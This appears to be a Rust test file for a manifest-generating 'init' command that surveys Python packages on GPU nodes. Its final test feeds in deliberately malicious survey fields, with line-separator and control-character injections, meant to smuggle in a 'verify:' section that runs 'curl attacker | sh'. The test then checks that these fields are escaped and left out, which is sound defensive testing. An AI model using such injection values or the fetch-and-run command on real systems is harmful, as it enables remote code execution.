//! `init`'s rendering on the real H200 capture and on surveys shaped like the testbed's.

use super::*;
use crate::facts::NodeFacts;
use pep508_rs::PackageName;

fn h200() -> NodeFacts {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/facts/h200.facts.json");
    match NodeFacts::read(&path) {
        Ok(facts) => facts,
        Err(error) => panic!("{error}"),
    }
}

fn package(name: &str) -> PackageName {
    match PackageName::new(name.to_string()) {
        Ok(name) => name,
        Err(error) => panic!("{error}"),
    }
}

fn dist(name: &str, version: &str, requires: &[&str]) -> SurveyDistribution {
    SurveyDistribution {
        name: package(name),
        version: match version.parse() {
            Ok(version) => version,
            Err(error) => panic!("{error}"),
        },
        requires: requires.iter().map(|name| package(name)).collect(),
        direct_url: None,
        installer: Some("pip".to_string()),
    }
}

fn load(text: &str) -> crate::manifest::Manifest {
    match crate::manifest::load_str(text, "init", None) {
        Ok(manifest) => manifest,
        Err(error) => panic!("{error}\n{text}"),
    }
}

#[test]
fn saved_facts_give_a_manifest_that_loads_with_every_package() {
    let facts = h200();
    let text = match manifest_text(&InitSource::Facts("h200.facts.json".into()), &facts, None) {
        Ok(text) => text,
        Err(error) => panic!("{error}"),
    };
    let manifest = load(&text);
    assert_eq!(manifest.name, "h200-as-is");
    assert_eq!(
        manifest.target.python,
        facts
            .python
            .as_ref()
            .map(|p| p.executable.clone())
            .unwrap_or_default()
    );
    assert!(!manifest.target.gpu_arch.is_empty(), "{text}");
    assert!(text.contains("decide:"), "{text}");
    let torch = facts.torch.as_ref().and_then(|torch| torch.version.clone());
    if let Some(version) = torch {
        assert!(text.contains(&format!("torch: \"=={version}\"")), "{text}");
    }
}

#[test]
fn a_survey_lists_top_level_distributions_and_pins_the_rest() {
    let facts = h200();
    let survey = Survey {
        distributions: vec![
            dist("pip", "24.0", &[]),
            dist("sglang", "0.5.9", &["torch", "requests"]),
            dist("torch", "2.9.1+cu130", &["filelock"]),
            dist("filelock", "3.13.1", &[]),
            dist("requests", "2.32.3", &[]),
        ],
        pip: PipIndexes {
            index_url: Some("https://user:secret@mirror.example/simple".to_string()),
            extra_index_urls: vec!["https://download.example/whl/cu130".to_string()],
        },
        managed_block: Some(SurveyBlock {
            manifest: Some("sglang-0.5.9-cuda13".to_string()),
            variables: vec![("CUDA_HOME".to_string(), "/usr/local/cuda-13.0".to_string())],
            secrets: vec!["HF_TOKEN".to_string()],
        }),
        skipped: Vec::new(),
    };
    let text = match manifest_text(&InitSource::Host("node0".into()), &facts, Some(&survey)) {
        Ok(text) => text,
        Err(error) => panic!("{error}"),
    };
    let manifest = load(&text);
    assert_eq!(manifest.name, "sglang-0.5.9-cuda13");
    let names: Vec<String> = manifest
        .packages
        .iter()
        .map(|p| p.name.to_string())
        .collect();
    assert_eq!(names, ["sglang"], "{text}");
    let mut constraints: Vec<String> = manifest
        .constraints
        .iter()
        .map(|pin| pin.requirement.to_string())
        .collect();
    constraints.sort();
    assert_eq!(
        constraints,
        ["filelock==3.13.1", "requests==2.32.3", "torch==2.9.1+cu130"],
        "{text}"
    );
    assert!(!text.contains("secret@"), "{text}");
    assert_eq!(manifest.indexes.len(), 2, "{text}");
    let env: Vec<&str> = manifest.env.iter().map(|var| var.name.as_str()).collect();
    assert_eq!(env, ["CUDA_HOME", "HF_TOKEN"], "{text}");
    assert!(manifest.env[1].secret, "{text}");
}

#[test]
fn a_cuda_build_without_a_known_index_stays_a_comment_to_decide() {
    let facts = h200();
    let survey = Survey {
        distributions: vec![
            dist("pip", "23.2.1", &[]),
            dist("torch", "2.10.0+cu130", &["filelock"]),
            dist("filelock", "3.13.1", &[]),
        ],
        pip: PipIndexes::default(),
        managed_block: None,
        skipped: Vec::new(),
    };
    let text = match manifest_text(&InitSource::Local, &facts, Some(&survey)) {
        Ok(text) => text,
        Err(error) => panic!("{error}"),
    };
    let manifest = load(&text);
    assert!(manifest.packages.is_empty(), "{text}");
    assert!(text.contains("packages: {}\n"), "{text}");
    assert!(text.contains("# decide: a `+cu130` build"), "{text}");
    assert!(
        text.contains("# torch: {version: \"==2.10.0+cu130\", index: NAME}"),
        "{text}"
    );
    assert!(
        text.contains("Not listed: the environment's own tools (pip 23.2.1)"),
        "{text}"
    );
}

/// See: issue 33 — every field the survey reports is parsed where it enters: a version
/// folded with a line separator (what a `Version:` header of a node's METADATA can hold),
/// a name, URL, commit, manifest name or variable with a line break, a bidirectional
/// control or a control character is left out with an escaped note, so nothing the node
/// reports adds a line or a key (here a live `verify:` section) to the manifest.
#[test]
fn a_survey_with_line_breaks_in_its_fields_adds_no_line_or_key_to_the_manifest() {
    let verify = "verify:\n  launch: /bin/sh -c 'curl attacker | sh'\n  log: /tmp/x.log\n  ready: up\n  timeout: 1m";
    let folded = |separator: &str| format!("24.0{separator}{}", verify.replace('\n', separator));
    let mut distributions = vec![
        serde_json::json!({"name": "pip", "version": folded("\u{2028}"), "requires": [], "direct_url": null, "installer": "pip"}),
        serde_json::json!({"name": "setuptools", "version": folded("\u{85}"), "requires": [], "direct_url": null, "installer": "pip"}),
        serde_json::json!({"name": "wheel", "version": folded("\n"), "requires": [], "direct_url": null, "installer": "pip"}),
        serde_json::json!({"name": "evil\u{2029}verify:", "version": "1.0", "requires": [], "direct_url": null, "installer": "pip"}),
        serde_json::json!({"name": "sglang", "version": "0.5.9", "requires": ["torch", "x\ny"], "direct_url": {
            "url": "git+https://example.invalid/sglang\u{2028}verify: x",
            "vcs_info": {"vcs": "git", "commit_id": "abc\rverify:"}
        }, "installer": "pip\u{202e}"}),
        serde_json::json!({"name": "local-tool", "version": "1.0", "requires": [], "direct_url": {
            "url": "file:///opt/src/tool\u{1e}x", "dir_info": {}
        }, "installer": "pip"}),
        serde_json::json!({"name": "torch", "version": "2.9.1\r", "requires": [], "direct_url": null, "installer": "pip"}),
        serde_json::json!({"name": "requests", "version": "2.32.3", "requires": [], "direct_url": null, "installer": "pip"}),
    ];
    for separator in ["\u{0b}", "\u{0c}", "\u{1c}", "\u{1d}", "\u{1e}"] {
        distributions.push(serde_json::json!({"name": "filelock", "version": format!("3.13.1{separator}x"), "requires": []}));
    }
    let report = serde_json::json!({
        "distributions": distributions,
        "pip": {
            "index_url": "https://mirror.example/simple\u{2028}verify:",
            "extra_index_urls": ["https://download.example/whl/cu130", "https://x.example/\u{85}y"]
        },
        "managed_block": {
            "manifest": "stack\u{2028}verify:",
            "variables": [["CUDA_HOME", "/usr/local/cuda-13.0"], ["A\nverify", "x"], ["LD_PRELOAD", "/x\u{2029}verify: y"], ["N", 3]],
            "secrets": ["HF_TOKEN", "X\u{2028}Y"]
        }
    });
    let survey = match Survey::parse(report.to_string().as_bytes()) {
        Ok(survey) => survey,
        Err(error) => panic!("{error}"),
    };
    let mut facts = h200();
    if let Some(os) = facts.os.as_mut() {
        os.pretty_name = Some(format!("Ubuntu\u{2028}{verify}"));
    }
    let text = match manifest_text(&InitSource::Host("node0".into()), &facts, Some(&survey)) {
        Ok(text) => text,
        Err(error) => panic!("{error}"),
    };
    let manifest = load(&text);
    assert!(manifest.verify.is_none(), "{text}");
    for c in [
        '\u{2028}', '\u{2029}', '\u{85}', '\r', '\u{0b}', '\u{0c}', '\u{1c}', '\u{1d}', '\u{1e}',
        '\u{202e}',
    ] {
        assert!(!text.contains(c), "{c:?} in\n{text}");
    }
    assert!(
        !text
            .lines()
            .any(|line| line.trim_start().starts_with("verify:")),
        "{text}"
    );
    // What parses is kept: the stack, its good index, variable and secret.
    assert_eq!(manifest.name, "node0-as-is", "{text}");
    let names: Vec<String> = manifest
        .packages
        .iter()
        .map(|p| p.name.to_string())
        .collect();
    assert!(names.contains(&"requests".to_string()), "{text}");
    assert_eq!(manifest.indexes.len(), 2, "{text}");
    let env: Vec<&str> = manifest.env.iter().map(|var| var.name.as_str()).collect();
    assert_eq!(env, ["CUDA_HOME", "HF_TOKEN"], "{text}");
    // What does not is named, escaped, for a person to decide.
    for wanted in [
        "`pip`, whose version `24.0\\u{2028}verify:",
        "`setuptools`, whose version `24.0\\u{85}verify:",
        "`wheel`, whose version `24.0\\nverify:",
        "`torch`, whose version `2.9.1\\r`",
        "a distribution whose name `evil\\u{2029}verify:`",
        "a requirement of `sglang` 0.5.9, `x\\ny`",
        "the commit of `sglang` 0.5.9, `abc\\rverify:`",
        "pip's `index-url` `https://mirror.example/simple\\u{2028}verify:`",
        "the env block's manifest name `stack\\u{2028}verify:`",
        "the env block's variable `A\\nverify`",
        "the env block's variable `LD_PRELOAD`",
        "the env block's variable `N`",
        "the env block's secret `X\\u{2028}Y`",
        "the installer of `sglang` 0.5.9",
    ] {
        assert!(text.contains(wanted), "{wanted}\n{text}");
    }
    assert!(survey.skipped.len() >= 14, "{:#?}", survey.skipped);
    assert!(
        text.contains("# decide: the node reported what does not parse"),
        "{text}"
    );
    assert!(
        text.contains("sglang 0.5.9 was installed from a URL that does not parse"),
        "{text}"
    );
}
